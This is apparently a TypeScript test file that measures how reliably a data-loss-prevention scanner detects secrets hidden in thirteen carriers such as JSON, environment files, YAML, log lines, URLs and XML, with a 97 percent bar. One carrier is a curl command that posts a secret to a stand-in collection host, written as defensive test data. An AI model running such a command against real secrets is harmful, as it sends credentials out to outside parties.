// Recall: every detector's fresh examples in the places where secrets travel. The table is printed; the bar is 97 in a hundred.
import { describe, expect, test } from 'vitest';
import { PROFILES } from '../../../src/contract.ts';
import { DETECTORS } from '../../../src/dlp/detectors/index.ts';
import { createScanner } from '../../../src/dlp/scanner.ts';
import { random, seed } from './samples.ts';

const PER_DETECTOR = 4;
const BAR = 0.97;
const { chars } = random;
const json = (value: unknown): string => JSON.stringify(value);
const shell = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;

const CARRIERS: Readonly<Record<string, (secret: string) => string>> = {
  'a JSON value': (secret) => json({ id: 7, note: secret, tags: ['a'] }),
  'JSON in JSON': (secret) => json({ payload: json({ items: [{ text: secret }] }) }),
  'a conversation': (secret) =>
    json({ model: 'm', messages: [{ role: 'user', content: `Here is what I found:\n\n${secret}\n\nWhat now?` }] }),
  'an environment file': (secret) => `NODE_ENV=production\nVALUE="${secret}"\nPORT=3000\n`,
  'a shell command': (secret) => `curl -sS -X POST -d ${shell(secret)} https://collect.example/${chars('a-z', 6)}`,
  YAML: (secret) => `app:\n  replicas: 2\n  value: "${secret}"\n`,
  code: (secret) => `const value = \`${secret}\`;\nsend(value);\n`,
  'a log line': (secret) => `2026-11-24T10:00:00Z INFO sending ${secret} to upstream\n`,
  'a URL': (secret) => `https://collect.example/p?v=${encodeURIComponent(secret)}&n=1`,
  'a form': (secret) => `a=1&v=${encodeURIComponent(secret).replaceAll('%20', '+')}&b=2`,
  'a header block': (secret) => `Accept: */*\r\nX-Note: ${secret.replaceAll('\n', ' ')}\r\nHost: a.example\r\n`,
  XML: (secret) => `<r><v>${secret.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')}</v></r>`,
  'base64 in JSON': (secret) => json({ data: Buffer.from(`value: ${secret}\n`).toString('base64') }),
};

describe(`recall (BOTTLE_SEED=${seed})`, () => {
  const scanner = createScanner({
    secrets: [],
    detectors: [...PROFILES.default.detectors],
    fingerprintKey: Buffer.alloc(32, 1),
    decodedBytes: 1 << 22,
  });
  const isFound = (text: string): boolean =>
    scanner
      .scanBody('body', Buffer.from(text), { contentType: '', contentEncoding: '' })
      .matches.some(({ detector }) => detector !== 'generic-secret');

  test.each(Object.entries(CARRIERS))('in %s is at least 97 %%', (name, carry) => {
    let all = 0;
    const missed: string[] = [];
    for (const one of DETECTORS.filter(({ byDefault }) => byDefault)) {
      for (let i = 0; i < PER_DETECTOR; i++) {
        const samples = one.truePositives(random);
        const sample = samples[i % samples.length]!;
        all++;
        if (!isFound(carry(sample))) missed.push(one.id);
      }
    }
    const share = (all - missed.length) / all;
    const list = [...new Set(missed)].join(', ');
    console.info(`${name}: ${(share * 100).toFixed(1)} % of ${all}${list === '' ? '' : ` (missed: ${list})`}`);
    expect(share, list).toBeGreaterThanOrEqual(BAR);
  });
});
